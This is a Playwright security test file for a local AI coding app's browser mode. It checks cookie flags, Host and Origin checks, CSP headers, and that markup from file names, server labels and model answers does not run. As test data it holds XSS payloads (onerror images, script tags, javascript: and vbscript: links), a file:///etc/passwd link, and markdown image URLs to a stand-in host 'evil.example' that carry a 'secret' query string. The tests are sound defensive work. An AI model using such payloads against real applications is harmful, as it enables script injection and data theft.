import { request as httpRequest, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import WebSocket from 'ws';
import { writeTinyGguf } from '../scripts/make-tiny-gguf.ts';
import type { ServerConfig } from '../src/shared/schemas/settings.ts';
import { startModelServer, type ModelServer } from '../test/model-server/model-server.ts';
import { createScratch } from './support/folders.ts';
import { launchApp, type RunningApp } from './support/launch-app.ts';
import { startBrowserApp, type BrowserApp } from './support/start-app.ts';
import { expect, test } from './support/test.ts';

/** Browser mode from outside: who gets in, and what a page of ours may do. */
const scratch = createScratch();
test.afterAll(() => scratch.remove());

test.describe('the door', () => {
  let core: RunningApp;
  let origin: string;
  let host: string;
  let cookie: string;
  let setCookie: string;

  test.beforeAll(async () => {
    core = await launchApp({ data: await scratch.data() });
    const link = new URL(core.url);
    ({ origin, host } = link);
    const response = await get(link.pathname + link.search);
    expect(response.statusCode).toBe(303);
    expect(response.headers.location).toBe('/');
    setCookie = response.headers['set-cookie']?.join() ?? '';
    cookie = setCookie.split(';')[0] ?? '';
  });
  test.afterAll(() => core.stop());

  function get(path: string, headers: Record<string, string> = {}): Promise<IncomingMessage> {
    const { port } = new URL(core.url);
    return new Promise((resolve, reject) => {
      httpRequest(
        { host: '127.0.0.1', port, path, headers: { host: new URL(core.url).host, ...headers } },
        (response) => {
          response.resume();
          resolve(response);
        },
      )
        .on('error', reject)
        .end();
    });
  }
  function wire(headers: Record<string, string>): Promise<string> {
    return new Promise((resolve) => {
      const socket = new WebSocket(`ws://127.0.0.1:${new URL(origin).port}/wire`, { headers });
      socket.on('open', () => {
        socket.terminate();
        resolve('open');
      });
      socket.on('error', (error) => {
        resolve(error.message);
      });
    });
  }

  test('the link works once', async ({ browser }) => {
    const link = new URL(core.url);
    expect((await get(link.pathname + link.search)).statusCode).toBe(403);
    const context = await browser.newContext();
    const page = await context.newPage();
    expect((await page.goto(core.url))?.status()).toBe(403);
    await expect(page.locator('body')).toContainText('This link has been used.');
    await context.close();
  });

  test('the cookie is kept from scripts and from other sites', () => {
    expect(setCookie).toMatch(/;\s*HttpOnly/i);
    expect(setCookie).toMatch(/;\s*SameSite=Strict/i);
  });

  test('a browser without the cookie gets nothing, neither page nor file nor socket', async ({ browser }) => {
    const context = await browser.newContext();
    const page = await context.newPage();
    for (const path of ['/', '/index.html', '/icon.svg']) {
      expect((await page.goto(origin + path))?.status()).toBe(403);
    }
    await context.close();
    expect(await wire({ host, origin })).toContain('403');
    expect(await wire({ host, origin, cookie: `${cookie.split('=')[0] ?? ''}=guess` })).toContain('403');
  });

  test('another Host is refused even with the cookie, as a rebound name would bring it', async () => {
    expect((await get('/', { cookie })).statusCode).toBe(200);
    for (const other of ['evil.example', `evil.example:${new URL(origin).port}`, `localhost:1`]) {
      expect((await get('/', { cookie, host: other })).statusCode).toBe(421);
    }
  });

  test('the socket opens for our own page only', async () => {
    expect(await wire({ host, origin, cookie })).toBe('open');
    for (const other of ['http://evil.example', origin.replace('http:', 'https:'), 'null', 'http://localhost:1']) {
      expect(await wire({ host, origin: other, cookie })).toContain('403');
    }
    expect(await wire({ host, cookie })).toContain('403');
    expect(await wire({ host: 'evil.example', origin: 'http://evil.example', cookie })).toContain('403');
  });

  test('every answer has the strict policy', async () => {
    for (const path of ['/', '/nothing-here', '/icon.svg']) {
      const { headers } = await get(path, { cookie });
      const policy = String(headers['content-security-policy']);
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("script-src 'self';");
      expect(policy).toContain(`connect-src ws://${host};`);
      expect(policy).toContain("frame-ancestors 'none'");
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['referrer-policy']).toBe('no-referrer');
    }
  });

  test('another site can neither frame the app nor read it', async ({ browser }) => {
    const context = await browser.newContext();
    const [name = '', value = ''] = cookie.split('=');
    await context.addCookies([{ name, value, url: origin, httpOnly: true, sameSite: 'Strict' }]);
    const page = await context.newPage();
    await page.route('http://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${origin}/"></iframe>` }),
    );
    await page.goto('http://evil.example/');
    const read = await page.evaluate(async (own) => {
      const frame = document.querySelector('iframe');
      await new Promise((loaded) => {
        if (frame?.contentDocument === null) loaded(null);
        else frame?.addEventListener('load', loaded);
      });
      const fetched = await fetch(`${own}/`, { credentials: 'include' }).then(
        () => 'read',
        () => 'refused',
      );
      const opened = await new Promise((done) => {
        const socket = new WebSocket(`${own.replace('http:', 'ws:')}/wire`);
        socket.addEventListener('open', () => {
          done('open');
        });
        socket.addEventListener('error', () => {
          done('refused');
        });
      });
      return { fetched, opened };
    }, origin);
    expect(read).toEqual({ fetched: 'refused', opened: 'refused' });
    for (const frame of page.frames()) expect(await frame.getByText('CodeGrex').count()).toBe(0);
    await context.close();
  });
});

test.describe.serial('what others wrote', () => {
  const MARKUP = '<img src=x onerror=ran()>';
  let app: BrowserApp;
  let server: ModelServer;
  const dialogs: string[] = [];

  test.beforeAll(async ({ browser }) => {
    const gguf = join(await scratch.folder(), 'tiny.gguf');
    await writeTinyGguf(gguf);
    server = await startModelServer(gguf);
    const servers: ServerConfig[] = [{ id: 'server-1', kind: 'ollama', label: MARKUP, baseUrl: server.url }];
    const folder = await scratch.folder({
      [`${MARKUP}.md`]: `# Title\n\n<script>ran()</script>\n`,
      [`<b>folder/a.txt`]: 'a\n',
    });
    app = await startBrowserApp(browser, {
      data: await scratch.data({ servers, detectLocalServers: false }),
      folder,
    });
    const { page } = app.window;
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.evaluate(() => {
      const world = globalThis as unknown as { ran: () => void; runs: number };
      world.runs = 0;
      world.ran = () => world.runs++;
    });
  });
  test.afterAll(async () => {
    await app.stop();
    await server.close();
  });
  test.afterEach(async () => {
    const { page } = app.window;
    expect(await page.evaluate(() => (globalThis as unknown as { runs: number }).runs)).toBe(0);
    expect(await page.locator('img, iframe, object, embed, video, audio').count()).toBe(0);
    expect(app.foreign).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(app.context.pages()).toHaveLength(1);
  });

  test('file names with markup are names, in tree, tab, finder and chip', async () => {
    const { window } = app;
    await expect(window.explorer.item('<b>folder')).toBeVisible();
    await window.explorer.item(`${MARKUP}.md`).click();
    await expect(window.editor.tab(`${MARKUP}.md`)).toHaveAttribute('aria-selected', 'true');
    await window.page.keyboard.press('ControlOrMeta+p');
    const finder = window.page.getByRole('dialog', { name: 'Go to file' });
    await expect(finder.getByRole('option', { name: MARKUP })).toBeVisible();
    await window.page.keyboard.press('Escape');
    await window.chat.region.getByRole('button', { name: '+ Current file' }).click();
    await expect(window.chat.removeChip(`${MARKUP}.md`)).toBeVisible();
    await window.chat.removeChip(`${MARKUP}.md`).click();
  });

  test('a server’s name with markup is a name', async () => {
    const { models } = app.window;
    await models.open();
    await expect(models.provider(MARKUP)).toContainText('Ready');
    await models.close();
  });

  test('an answer with markup, scripts and pictures runs and fetches nothing', async () => {
    const { chat } = app.window;
    server.say = [
      '<img src=x onerror=ran()> <img src="https://evil.example/pixel.png">',
      '',
      '<script>ran()</script><iframe src="https://evil.example/"></iframe>',
      '',
      '<svg onload=ran()></svg> <details open ontoggle=ran()>',
      '',
      '![chart](https://evil.example/chart.png?q=secret)',
      '![data](data:image/svg+xml,<svg onload=ran()>)',
      '',
      '<style>@import url(https://evil.example/x.css);</style>',
      '',
      '```html',
      '<img src=x onerror=ran()>',
      '```',
      '',
      '| a | b |',
      '|---|---|',
      '| <img src=x onerror=ran()> | c |',
    ].join('\n');
    await chat.ask('Show me a chart.');
    await expect(chat.lastAnswer).toContainText('[image: chart]');
    await expect(chat.lastAnswer.getByRole('table')).toBeVisible();
    await expect(chat.lastAnswer.locator('script, style, svg, link, form, input')).toHaveCount(0);
  });

  test('links with scripts do nothing, and others show where they lead before anything opens', async () => {
    const { chat, page, question } = app.window;
    server.say = [
      '[script](javascript:ran())',
      '[data](data:text/html,<script>ran()</script>)',
      '[file](file:///etc/passwd)',
      '[vbscript](VBSCRIPT:ran())',
      '[safe words](https://evil.example/?q=secret)',
    ].join('\n\n');
    await chat.ask('Where is it?');
    const url = page.url();
    for (const name of ['script', 'data', 'file', 'vbscript']) {
      const link = chat.lastAnswer.getByText(name, { exact: true });
      expect(await link.getAttribute('href')).toBeFalsy();
      await link.click();
      await expect(question).toHaveCount(0);
    }
    await chat.lastAnswer.getByText('safe words').click();
    await expect(question).toContainText('https://evil.example/?q=secret');
    await question.getByRole('button', { name: 'Cancel' }).click();
    expect(page.url()).toBe(url);
  });

  test('what a question says is shown as it was written', async () => {
    const { chat } = app.window;
    server.say = 'Yes.';
    await chat.ask(`${MARKUP} **bold** [x](javascript:ran())`);
    await expect(chat.questions.last()).toContainText(`${MARKUP} **bold** [x](javascript:ran())`);
  });

  test('markup in what a request says of itself is text in the ledger', async () => {
    const { ledger } = app.window;
    await ledger.open();
    await ledger.show('chat');
    await expect(ledger.body).toContainText(MARKUP);
    await ledger.close();
  });

  test('a script would not run, had one got in', async () => {
    const violation = await app.window.page.evaluate(
      () =>
        new Promise((reported) => {
          document.addEventListener('securitypolicyviolation', (event) => {
            reported(`${event.effectiveDirective} ${event.blockedURI}`);
          });
          const script = document.createElement('script');
          script.textContent = 'ran()';
          document.body.append(script);
        }),
    );
    expect(violation).toBe('script-src-elem inline');
  });
});
